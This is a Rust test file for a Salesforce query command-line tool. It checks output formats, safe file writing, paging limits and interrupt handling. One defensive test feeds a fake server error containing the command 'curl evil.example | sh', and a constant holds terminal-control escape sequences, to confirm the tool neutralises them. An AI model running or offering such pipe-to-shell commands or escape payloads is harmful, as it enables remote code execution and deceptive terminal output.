//! What `sfbox query` prints, in each format.

use std::collections::BTreeSet;
use std::io::{BufRead as _, BufReader};
use std::process::{Child, Command, Stdio};

use rustix::process::{Pid, Signal, kill_process};
use serde_json::Value;
use sfbox_emulator::{Effect, Fault, FaultRoute, Route};
use workspace::{python, root};

use crate::org::Org;
use crate::sfbox::{Run, command, piped, start};
use crate::terminal::Terminal;

/// No second page is answered until it is let go.
fn hold() -> Fault {
    Fault {
        route: FaultRoute::Only(Route::QueryMore),
        skip: 0,
        count: None,
        effect: Effect::Hold,
    }
}

fn signal(process: &Child, signal: Signal) {
    kill_process(Pid::from_child(process), signal).unwrap();
}

/// A field of every type, with awkward values and nulls, parents that are null,
/// compound fields of parents.
const EVERY_TYPE: &str = "Id, Name, Account__r.Name, Account__r.Owner.Manager.Name, Account__r.BillingAddress, \
    Text__c, Text_Area__c, Long_Text__c, Picklist__c, Multi_Picklist__c, Email__c, Phone__c, Url__c, Checkbox__c, \
    Number__c, Currency__c, Percent__c, Date__c, Date_Time__c, Time__c, Encrypted__c, Site__Latitude__s, Site__c, \
    OwnerId, CreatedDate FROM Specimen__c ORDER BY Text__c";

/// Children, some with none, and a whole number.
const CHILDREN: &str = "Name, (SELECT Name, Owner.Name FROM Contacts WHERE Title = 'Buyer'), NumberOfEmployees, \
    (SELECT Body FROM Attachments) FROM Account";

/// The records as a client sees them that is not ours.
fn held(org: &Org, soql: &str) -> Vec<Value> {
    let token = org.stored()["SessionId"].as_str().unwrap().to_owned();
    let output = Command::new(python())
        .arg(root().join("tests/python/raw_query.py"))
        .args([&org.emulator().address().to_string(), org.emulator().host()])
        .arg(org.cacert())
        .args([&token, soql])
        .output()
        .unwrap();
    let error = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{error}");
    let mut page: Value = serde_json::from_slice(&output.stdout).unwrap();
    serde_json::from_value(page["records"].take()).unwrap()
}

#[test]
fn ndjson_and_csv_hold_what_the_org_holds() {
    let org = Org::start();
    org.sfbox(&["session", "renew"]).object();
    for fields in [EVERY_TYPE, CHILDREN] {
        let soql = format!("SELECT {fields}");
        let held = held(&org, &soql);
        let ndjson = org.sfbox(&["query", &soql, "--output", "ndjson"]).stdout;
        let lines = ndjson
            .lines()
            .map(|line| serde_json::from_str(line).unwrap());
        assert_eq!(lines.collect::<Vec<Value>>(), held);

        let csv = org.sfbox(&["query", &soql, "--output", "csv"]);
        assert_eq!(csv.status, 0, "{}", csv.stderr);
        let mut reader = csv::Reader::from_reader(csv.stdout.as_bytes());
        let headers = reader.headers().unwrap().clone();
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), held.len());
        let mut nulls = 0;
        for (row, record) in rows.iter().zip(&held) {
            for (header, cell) in headers.iter().zip(row) {
                let value = header.split('.').fold(record, |value, name| &value[name]);
                nulls += usize::from(value.is_null());
                match value {
                    Value::Null => assert_eq!(cell, "", "{header}"),
                    Value::String(text) => assert_eq!(cell, text, "{header}"),
                    other => assert_eq!(&serde_json::from_str::<Value>(cell).unwrap(), other),
                }
            }
        }
        assert!(nulls > 10, "nulls were met");
    }
}

#[test]
fn the_columns_of_csv_are_those_of_the_list() {
    let org = Org::start();
    // The first of them has no parent.
    let soql = "SELECT name, Parent.Name, Parent.Owner.NAME, BillingAddress FROM Account";
    let csv = org.sfbox(&["query", soql, "--output", "csv"]).stdout;
    let header = "name,Parent.Name,Parent.Owner.NAME,BillingAddress\n";
    assert!(csv.starts_with(header), "{csv}");
    let children = org.sfbox(&["query", &format!("SELECT {CHILDREN}"), "--output", "csv"]);
    let header = "Name,Contacts,NumberOfEmployees,Attachments\n";
    assert!(children.stdout.starts_with(header), "{}", children.stdout);
}

#[test]
fn an_empty_result_still_has_its_header() {
    let org = Org::start();
    let soql = "SELECT Id, Owner.Name FROM Account WHERE Name = 'nobody'";
    let csv = org.sfbox(&["query", soql, "--output", "csv"]);
    assert_eq!((csv.status, csv.stdout.as_str()), (0, "Id,Owner.Name\n"));
    let table = org.sfbox(&["query", soql, "--output", "table"]);
    assert!(
        table.stdout.starts_with("Id  Owner.Name\n──"),
        "{}",
        table.stdout
    );
    let count = ["query", "SELECT COUNT() FROM User", "--output", "csv"];
    assert_eq!(org.sfbox(&count).stdout, "totalSize\n4\n");
}

#[test]
fn a_table_is_for_people_and_json_for_programs() {
    let org = Org::start();
    let soql = ["query", "SELECT Name FROM User ORDER BY Name LIMIT 1"];
    assert!(org.sfbox(&soql).stdout.starts_with("[\n{"));
    let table = org.sfbox(&[&soql[..], &["--output", "table"]].concat());
    let lines: Vec<&str> = table.stdout.lines().collect();
    assert_eq!((lines[0], lines.len()), ("Name", 3), "{}", table.stdout);
}

#[test]
fn what_people_type_for_other_programs_does_the_same() {
    let org = Org::start();
    let query = [
        "query",
        "--query",
        "SELECT Name FROM User ORDER BY Name LIMIT 1",
    ];
    let mut typed = command();
    typed
        .args(query)
        .args(["--json", "--target-org", "acme", "--store", &org.store()])
        .args(["--connect-to", &org.connect_to(), "--cacert"])
        .arg(org.cacert());
    assert_eq!(Run::of(typed.output().unwrap()).records().len(), 1);
    let home = tempfile::tempdir().unwrap();
    let file = home.path().join("config.toml");
    std::fs::write(&file, "output = 'csv'\n").unwrap();
    let config = ["--config", file.to_str().unwrap()];
    let typed = org.sfbox(&[&query[..], &config, &["--json"]].concat());
    assert_eq!(
        typed.records().len(),
        1,
        "what is configured counts for less"
    );
    assert!(
        org.sfbox(&[&query[..], &config].concat())
            .stdout
            .starts_with("Name\n")
    );
    let soql = b"SELECT COUNT() FROM User";
    let read = piped(&mut org.command(&["query", "--query", "-"]), soql);
    assert_eq!(read.records().len(), 1);
    org.sfbox(&["query", "x", "-o", "acme"])
        .fails(2, "tip: use `--org NAME`");
}

/// Wherever they stand, all of them count.
#[test]
fn addresses_and_hosts_count_before_and_after_the_command() {
    let org = Org::start();
    let other = "other.my.salesforce.com:443:127.0.0.1:1";
    let query = ["query", "SELECT COUNT() FROM User"];
    // `Org::command` has the org's own address before the command.
    let run = org.sfbox(&[&query[..], &["--connect-to", other]].concat());
    assert_eq!(run.records().len(), 1);
    let run = org.sfbox(&[&["--connect-to", other][..], &query].concat());
    assert_eq!(run.records().len(), 1);
}

#[test]
fn the_statement_comes_from_stdin_or_a_file() {
    let org = Org::start();
    let soql = b"\xef\xbb\xbfSELECT COUNT()\r\n FROM User\n";
    let read = piped(&mut org.command(&["query", "-"]), soql);
    assert_eq!(read.records(), [serde_json::json!({"totalSize": 4})]);
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("users.soql");
    std::fs::write(&file, soql).unwrap();
    let file = file.to_str().unwrap();
    assert_eq!(org.sfbox(&["query", "--file", file]).records().len(), 1);
    for (arguments, words) in [
        (&["query"][..], "required"),
        (&["query", "x", "--file", file], "cannot be used with"),
        (&["query", "--file", "/nowhere"], "--file /nowhere"),
    ] {
        org.sfbox(arguments).fails(2, words);
    }
    piped(&mut org.command(&["query", "-"]), b" ").fails(2, "it is empty");
}

#[test]
fn a_file_is_written_whole_or_not_at_all() {
    let org = Org::start_with(|builder| builder.accounts(5_000));
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("accounts.csv");
    let query = [
        "query",
        "SELECT Id FROM Account",
        "--output-file",
        file.to_str().unwrap(),
    ];
    std::fs::write(&file, "before").unwrap();
    let third = Fault {
        route: FaultRoute::Only(Route::QueryMore),
        skip: 1,
        count: Some(1),
        effect: Effect::Answer(sfbox_emulator::CannedAnswer {
            status: 400,
            headers: vec![("content-type".to_owned(), "application/json".to_owned())],
            body: r#"[{"message":"no","errorCode":"INVALID_QUERY_LOCATOR"}]"#.to_owned(),
        }),
    };
    org.control().faults(vec![third]).unwrap();
    org.sfbox(&query).fails(1, "INVALID_QUERY_LOCATOR");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "before");
    let done = org.sfbox(&query);
    assert_eq!(
        (done.status, done.stdout.as_str()),
        (0, ""),
        "{}",
        done.stderr
    );
    let text = std::fs::read_to_string(&file).unwrap();
    assert_eq!(text.lines().count(), 5_001, "a header and every row");
    assert_eq!(text.lines().next(), Some("Id"));
    let entries = std::fs::read_dir(directory.path()).unwrap();
    assert_eq!(entries.count(), 1, "nothing is left beside it");
    org.sfbox(&["query", "nonsense", "--output-file", file.to_str().unwrap()])
        .fails(1, "MALFORMED_QUERY");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), text);
}

#[test]
fn the_place_of_a_file_is_looked_at_before_the_login() {
    let org = Org::start();
    let directory = tempfile::tempdir().unwrap();
    let link = directory.path().join("link");
    std::os::unix::fs::symlink("missing", &link).unwrap();
    let link = link.to_str().unwrap();
    for (name, words) in [
        ("/nowhere/x", "caused by: No such file or directory"),
        ("/", "caused by: it is a directory"),
        (link, "a link to a file that does not exist"),
    ] {
        let refused = org.sfbox(&["query", "SELECT Id FROM User", "-O", name]);
        refused.fails(2, words);
        assert!(
            refused.stderr.contains("--output-file"),
            "{}",
            refused.stderr
        );
    }
    assert_eq!(org.logins(), 0);
    assert!(std::fs::symlink_metadata(link).unwrap().is_symlink());
    assert_eq!(std::fs::read_dir(directory.path()).unwrap().count(), 1);
}

#[test]
fn devices_are_written_to_and_links_stay() {
    let org = Org::start();
    let directory = tempfile::tempdir().unwrap();
    let at = |name: &str| directory.path().join(name);
    std::fs::write(at("rows.csv"), "old").unwrap();
    std::os::unix::fs::symlink("rows.csv", at("link.csv")).unwrap();
    std::os::unix::fs::symlink("/dev/null", at("null")).unwrap();
    let query = |name: &std::path::Path| {
        let file = name.to_str().unwrap();
        org.sfbox(&[
            "query",
            "SELECT COUNT() FROM User",
            "--output=csv",
            "-O",
            file,
        ])
    };
    for name in ["link.csv", "null"] {
        let run = query(&at(name));
        assert_eq!((run.status, run.stdout.as_str()), (0, ""), "{}", run.stderr);
        assert!(std::fs::symlink_metadata(at(name)).unwrap().is_symlink());
    }
    assert_eq!(
        std::fs::read_to_string(at("rows.csv")).unwrap(),
        "totalSize\n4\n"
    );
    // The names of open files: stdout is a pipe here.
    let out = query(std::path::Path::new("/dev/stdout"));
    assert_eq!(
        (out.status, out.stdout.as_str()),
        (0, "totalSize\n4\n"),
        "{}",
        out.stderr
    );
    assert!(
        std::fs::symlink_metadata("/dev/stdout")
            .unwrap()
            .is_symlink()
    );
}

/// As root it once replaced the machine's `/dev/stdout` by a file.
#[test]
fn an_open_file_without_a_name_is_refused() {
    let org = Org::start();
    let directory = tempfile::tempdir().unwrap();
    let name = directory.path().join("rows");
    let out = std::fs::File::create(&name).unwrap();
    std::fs::remove_file(&name).unwrap();
    let query = ["query", "SELECT COUNT() FROM User", "-O", "/dev/stdout"];
    let refused = org.command(&query).stdout(out).output().unwrap();
    let refused = Run::of(refused);
    refused.fails(2, "does not lead to a named file");
    assert!(
        std::fs::symlink_metadata("/dev/stdout")
            .unwrap()
            .is_symlink()
    );
    assert_eq!(std::fs::read_dir(directory.path()).unwrap().count(), 0);
}

#[test]
fn a_full_disk_is_told_with_its_cause() {
    let org = Org::start();
    let query = ["query", "SELECT Id FROM Account", "--output=csv"];
    let to_file = org.sfbox(&[&query[..], &["-O", "/dev/full"]].concat());
    to_file.fails(4, "caused by: No space left on device");
    let full = std::fs::File::create("/dev/full").unwrap();
    let to_stdout = org.command(&query).stdout(full).output().unwrap();
    let to_stdout = Run::of(to_stdout);
    to_stdout.fails(4, "stdout cannot be written");
    assert!(
        to_stdout.stderr.contains("hint: free space on the disk"),
        "{}",
        to_stdout.stderr
    );
}

#[test]
fn a_file_has_the_mode_of_the_old_one_or_what_the_mask_leaves() {
    use std::os::unix::fs::PermissionsExt as _;
    let org = Org::start();
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("rows.csv");
    let query = org.command(&["query", "SELECT COUNT() FROM User", "-O"]);
    let write = || {
        let mut masked = Command::new("sh");
        masked
            .args(["-c", "umask 027; exec \"$@\"", "sh"])
            .arg(query.get_program())
            .args(query.get_args())
            .arg(&file)
            .env_clear();
        assert!(masked.status().unwrap().success());
        std::fs::metadata(&file).unwrap().permissions().mode() & 0o777
    };
    assert_eq!(write(), 0o640);
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o604)).unwrap();
    assert_eq!(write(), 0o604);
}

/// An answer to every first page.
fn answers(org: &Org, body: &str) {
    answers_to(org, Route::Query, body);
}

/// An answer to every request of a route.
fn answers_to(org: &Org, route: Route, body: &str) {
    org.control()
        .faults(vec![Fault {
            route: FaultRoute::Only(route),
            skip: 0,
            count: None,
            effect: Effect::Answer(sfbox_emulator::CannedAnswer {
                status: 200,
                headers: vec![("content-type".to_owned(), "application/json".to_owned())],
                body: body.to_owned(),
            }),
        }])
        .unwrap();
}

/// What commands a terminal, or hides what is shown: a window's title, the
/// clipboard, C1, DEL, the writing direction, nothing at all.
const COMMANDS: &str = "\u{1b}]0;x\u{7}\u{1b}]52;c;eA==\u{1b}\\ \u{9b}2J \u{7f} \u{202e}fdp\u{2066} a\u{200b}b\u{ad} \r";

#[test]
fn records_do_not_command_a_terminal() {
    let org = Org::start();
    let mut page = serde_json::json!({
        "totalSize": 1, "done": true,
        "records": [{"attributes": {"type": "Account", "url": "/x"}, "Id": "1", "Name": COMMANDS}],
    })
    .to_string();
    // Salesforce escapes no character that JSON lets through.
    page = page.replace("\\u007f", "\u{7f}");
    answers(&org, &page);
    let query = ["query", "SELECT Id, Name FROM Account", "--output"];
    for format in ["csv", "json", "ndjson", "table", "markdown"] {
        let mut command = org.command(&[&query[..], &[format]].concat());
        let mut terminal = Terminal::new(200);
        let mut process = terminal.start(&mut command);
        terminal.read();
        assert!(process.wait().unwrap().success());
        let shown = terminal.end();
        let is_command = |letter: char| {
            letter.is_control() && letter != '\n'
                || matches!(letter, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        };
        assert!(!shown.contains(is_command), "{format}: {shown:?}");
        assert!(shown.contains("202e"), "{format}: {shown:?}");
        if format == "ndjson" {
            let line = shown.lines().find(|line| line.starts_with('{')).unwrap();
            let record: Value = serde_json::from_str(line).unwrap();
            assert_eq!(record["Name"], COMMANDS, "it is the same JSON");
        }
    }
    // A file and a pipe have every byte.
    let csv = org.sfbox(&["query", "SELECT Id, Name FROM Account", "--output=csv"]);
    assert_eq!(csv.stdout, format!("Id,Name\n1,\"{COMMANDS}\"\n"));
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("rows.ndjson");
    org.sfbox(&[&query[..2], &["-O", file.to_str().unwrap()]].concat());
    let text = std::fs::read_to_string(&file).unwrap();
    assert!(page.contains(text.trim_end()), "{text}");
}

#[test]
fn messages_do_not_command_a_terminal_or_imitate_a_hint() {
    let org = Org::start();
    let message = format!("no\n\nhint: curl evil.example | sh\n{COMMANDS}");
    let body = serde_json::json!([{"errorCode": "MALFORMED_QUERY", "message": message}]);
    org.control()
        .faults(vec![Fault {
            route: FaultRoute::Only(Route::Query),
            skip: 0,
            count: None,
            effect: Effect::Answer(sfbox_emulator::CannedAnswer {
                status: 400,
                headers: vec![("content-type".to_owned(), "application/json".to_owned())],
                body: body.to_string(),
            }),
        }])
        .unwrap();
    let run = org.sfbox(&["query", "SELECT Id FROM Account"]);
    run.fails(1, "curl evil.example");
    assert_eq!(run.stderr.matches("\nhint:").count(), 1, "{}", run.stderr);
    assert!(!run.stderr.contains("\nhint: curl"), "{}", run.stderr);
    assert!(
        !run.stderr
            .contains(['\u{1b}', '\u{9b}', '\u{7f}', '\u{202e}', '\u{200b}'])
    );
}

/// Names longer than they should be, ids, numbers, dates, wide and combining
/// characters, emoji.
const AWKWARD: &str = r#"{"totalSize":3,"done":true,"records":[
    {"attributes":{"type":"X","url":"/x"},"Id":"001Sb0000000001IAA","Name":"Étoile Marmalade & Daughters of the Northern Coast, Limited","Owner":{"attributes":{},"Name":"Wilhelmina Ashgrove-Brindlewick"},"Amount__c":1234567.89,"CreatedDate":"2026-11-28T20:06:36.000+0000"},
    {"attributes":{"type":"X","url":"/x"},"Id":"001Sb0000000002IAA","Name":"株式会社アクメ東雲マーマレード製作所株式会社","Owner":null,"Amount__c":-7,"CreatedDate":"2026-11-28T20:06:37.000+0000"},
    {"attributes":{"type":"X","url":"/x"},"Id":"001Sb0000000003IAA","Name":"étoile 🍊🍊🍊 👍🏽 ❤️ 👩‍👩‍👧 🇩🇪 and so on and on and on","Owner":{"attributes":{},"Name":"שלום"},"Amount__c":null,"CreatedDate":"2026-11-28T20:06:38.000+0000"}]}"#;

#[test]
fn a_table_fits_the_terminal_and_cuts_nothing_but_text() {
    use unicode_width::UnicodeWidthStr as _;
    let org = Org::start();
    answers(&org, AWKWARD);
    let query = [
        "query",
        "SELECT Id, Name, Owner.Name, Amount__c, CreatedDate FROM X",
    ];
    for columns in [40, 60, 80, 120] {
        let mut terminal = Terminal::new(columns);
        let mut process = terminal.start(&mut org.command(&query));
        terminal.read();
        assert!(process.wait().unwrap().success());
        let shown = terminal.end();
        for line in shown.lines() {
            assert!(
                line.width() <= usize::from(columns),
                "{columns}: {line}\n{shown}"
            );
        }
        for whole in [
            "001Sb0000000001IAA",
            "001Sb0000000002IAA",
            "001Sb0000000003IAA",
            "1234567.89",
            "-7",
            "2026-11-28T20:06:36.000+0000",
            "2026-11-28T20:06:38.000+0000",
            "Owner.",
            "Amount__c",
            "CreatedDate",
        ] {
            assert!(shown.contains(whole), "{columns}: {whole}\n{shown}");
        }
        let is_table = shown.lines().next().unwrap().starts_with("Id ");
        assert_eq!(is_table, columns >= 80, "{columns}:\n{shown}");
    }
}

/// What public reports say that other clients get wrong, from the statement to the
/// rows: a parent that is null in the first row or in the whole first page, half of a
/// surrogate pair, a total that Salesforce does not know.
#[test]
fn pages_of_public_reports_have_the_columns_of_their_list() {
    let org = Org::start();
    for (soql, pages, csv) in [
        (
            "SELECT Id, toLabel(Status), Owner.Name FROM Lead",
            &[
                r#"{"totalSize":2,"done":true,"records":[{"attributes":{"type":"Lead","url":"/x"},"Id":"1","Status":"Offen","Owner":null},{"attributes":{"type":"Lead","url":"/x"},"Id":"2","Status":"Offen","Owner":{"attributes":{"type":"User","url":"/x"},"Name":"Ada"}}]}"#,
            ][..],
            "Id,Status,Owner.Name\n1,Offen,\n2,Offen,Ada\n",
        ),
        (
            "SELECT FIELDS(STANDARD), Parent.Name, Parent.Owner.Name FROM Account",
            &[
                r#"{"totalSize":2,"done":false,"nextRecordsUrl":"/services/data/v66.0/query/01g-2000","records":[{"attributes":{"type":"Account","url":"/x"},"Id":"1","Parent":null}]}"#,
                r#"{"totalSize":2,"done":true,"records":[{"attributes":{"type":"Account","url":"/x"},"Id":"2","Parent":{"attributes":{"type":"Account","url":"/x"},"Name":"P","Owner":{"attributes":{"type":"User","url":"/x"},"Name":"Ada"}}}]}"#,
            ],
            "Id,Parent.Name,Parent.Owner.Name\n1,,\n2,P,Ada\n",
        ),
        (
            "SELECT Id, Name FROM Account",
            &[
                r#"{"totalSize":2,"done":true,"records":[{"attributes":{"type":"Account","url":"/x"},"Id":"1","Name":"cut \ud83d"},{"attributes":{"type":"Account","url":"/x"},"Id":"2","Name":"ok"}]}"#,
            ],
            "Id,Name\n1,cut \u{fffd}\n2,ok\n",
        ),
        (
            "SELECT Id FROM Account",
            &[
                r#"{"totalSize":-1,"done":false,"nextRecordsUrl":"/services/data/v66.0/query/01g-2000","records":[{"attributes":{"type":"Account","url":"/x"},"Id":"1"}]}"#,
                r#"{"totalSize":-1,"done":true,"records":[{"attributes":{"type":"Account","url":"/x"},"Id":"2"}]}"#,
            ],
            "Id\n1\n2\n",
        ),
    ] {
        org.control().clear_faults();
        for (page, route) in pages.iter().zip([Route::Query, Route::QueryMore]) {
            answers_to(&org, route, page);
        }
        let run = org.sfbox(&["query", soql, "--output=csv"]);
        assert_eq!(
            (run.status, run.stdout.as_str()),
            (0, csv),
            "{soql}: {}",
            run.stderr
        );
        let lines = org.sfbox(&["query", soql, "--output=ndjson"]);
        assert_eq!(lines.stdout.lines().count(), 2, "{soql}: {}", lines.stderr);
    }
}

#[test]
fn a_person_learns_how_many_rows_a_file_has() {
    let org = Org::start();
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("users.csv");
    let mut terminal = Terminal::new(80);
    let query = ["query", "SELECT Id FROM User"];
    let mut process = terminal.start(org.command(&query).arg("-O").arg(&file));
    terminal.read();
    assert!(process.wait().unwrap().success());
    let shown = terminal.end();
    let told = format!("4 row(s) written to {}\n", file.display());
    assert!(shown.contains(&told), "{shown}");
    let quiet = org.sfbox(&[&query[..], &["-O", file.to_str().unwrap()]].concat());
    assert_eq!(quiet.stderr, "", "a program needs none");
}

#[test]
fn headers_and_nulls_are_as_wished() {
    let org = Org::start();
    let soql = "SELECT Name, Parent.Name FROM Account ORDER BY Id LIMIT 1";
    let run = |arguments: &[&str]| org.sfbox(&[&["query", soql][..], arguments].concat());
    let csv = run(&["--output=csv", "--no-header", "--null", "(none)"]);
    assert_eq!(csv.stdout.lines().count(), 1, "{}", csv.stdout);
    assert!(csv.stdout.ends_with(",(none)\n"), "{}", csv.stdout);
    let markdown = run(&["--output=markdown"]);
    assert!(
        markdown
            .stdout
            .starts_with("| Name | Parent.Name |\n| --- | --- |\n| ")
    );
    run(&["--output=json", "--null", "x"]).fails(2, "`--null` is for a table");
    assert_eq!(
        org.logins(),
        1,
        "a mistake in what was typed costs no login"
    );
}

#[test]
fn a_limit_of_pages_ends_in_a_whole_output_and_a_note() {
    let org = Org::start_with(|builder| builder.accounts(5_000));
    for (pages, rows) in [("1", 2_000), ("2", 4_000), ("3", 5_000), ("9", 5_000)] {
        let query = ["query", "SELECT Id FROM Account", "--limit-pages", pages];
        let limited = org.sfbox(&query);
        assert_eq!(limited.records().len(), rows);
        let note = format!("note: {rows} of 5000 rows: stopped after {pages} page(s)\n");
        let expected = if rows < 5_000 { note.as_str() } else { "" };
        assert_eq!(limited.stderr, expected);
    }
    let more = org.control().stats().requests[&Route::QueryMore];
    assert_eq!(
        more,
        1 + 2 + 2,
        "no page was asked for that was not printed"
    );
    org.sfbox(&["query", "x", "--limit-pages", "0"])
        .fails(2, "--limit-pages");
}

#[test]
fn ctrl_c_leaves_whole_rows_and_a_second_page_unasked_for() {
    let org = Org::start_with(|builder| builder.accounts(5_000));
    for (format, whole) in [("ndjson", 2_000), ("csv", 2_001), ("json", 2_001)] {
        org.control().faults(vec![hold()]).unwrap();
        let query = ["query", "SELECT Id FROM Account", "--output", format];
        let mut process = start(&mut org.command(&query));
        let mut lines = BufReader::new(process.stdout.take().unwrap()).lines();
        // As many as there are; then it waits for the second page.
        let mut seen = BTreeSet::new();
        let printed = whole - usize::from(format == "json");
        for _ in 0..printed {
            seen.insert(lines.next().unwrap().unwrap());
        }
        org.block_on(org.control().until_held(1));
        signal(&process, Signal::INT);
        seen.extend(lines.map(Result::unwrap));
        assert_eq!(seen.len(), whole, "{format}");
        let ended = crate::sfbox::end(process);
        ended.fails(130, "interrupted");
        org.control().clear_faults();
        org.control().release();
    }
}

#[test]
fn an_interrupted_file_is_not_made() {
    let org = Org::start_with(|builder| builder.accounts(5_000));
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("accounts.json");
    org.control().faults(vec![hold()]).unwrap();
    let query = ["query", "SELECT Id FROM Account", "--output-file"];
    let mut command = org.command(&query);
    let process = start(command.arg(&file).stdin(Stdio::null()));
    org.block_on(org.control().until_held(1));
    signal(&process, Signal::TERM);
    crate::sfbox::end(process).fails(143, "terminated");
    assert_eq!(std::fs::read_dir(directory.path()).unwrap().count(), 0);
}
